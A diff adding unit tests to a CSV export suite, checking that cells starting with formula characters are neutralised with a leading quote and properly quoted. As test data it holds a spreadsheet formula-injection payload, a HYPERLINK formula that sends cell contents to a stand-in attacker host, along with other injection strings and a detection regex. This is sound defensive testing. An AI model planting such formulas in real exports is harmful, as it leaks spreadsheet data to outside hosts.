@@ -251,6 +251,42 @@ describe('csv', () => {
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('line\nbreak')).toBe('"line\nbreak"');
   });
+
+  it('neutralises cells a spreadsheet would run as a formula, quoting them as CSV requires', () => {
+    // Prepare: a hostile job name and annotation, as a scan of an attacker's estate would report them
+    const hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"click")';
+    const report = sample();
+    report.evaluations = [
+      evaluation({ resourceId: hyperlink, compliance: 'NON_COMPLIANT', annotation: '@SUM(1)' }),
+      evaluation({ resourceId: '+cmd', annotation: '-2+3', offenders: ['--db_password', '=1+1'] }),
+      evaluation({ resourceId: '\tindent', annotation: '\r=1', control: '\u0000=1' }),
+    ];
+    // Act
+    const records = parseCsv(renderCsv(report)).slice(1);
+    // Assess: every dangerous first character is behind a single quote, the rest of the value intact
+    const column = (name: (typeof CSV_COLUMNS)[number]) => records.map((r) => r[CSV_COLUMNS.indexOf(name)]);
+    expect(column('resourceId')).toEqual([`'${hyperlink}`, "'+cmd", "'\tindent"]);
+    expect(column('annotation')).toEqual(["'@SUM(1)", "'-2+3", "'\r=1"]);
+    expect(column('offenders')[1]).toBe("'--db_password; =1+1");
+    expect(column('control')[2]).toBe("'\u0000=1");
+    for (const record of records)
+      for (const field of record)
+        expect({ field, start: /^[=+\-@\t\r\0]/.test(field) }).toMatchObject({ start: false });
+    // Quoted as RFC 4180 requires once the quote is added
+    expect(csvField(hyperlink)).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
+  });
+
+  it('leaves readable values that cannot start a formula untouched', () => {
+    for (const value of [
+      'job-a',
+      'arn:aws:glue:eu-west-1:111122223333:job/load',
+      '2026-12-05T08:30:00.000Z',
+      "'quoted",
+      ' =1',
+    ])
+      expect(csvField(value)).toBe(value);
+    expect(csvField('')).toBe('');
+  });
 });
 
 describe('json', () => {
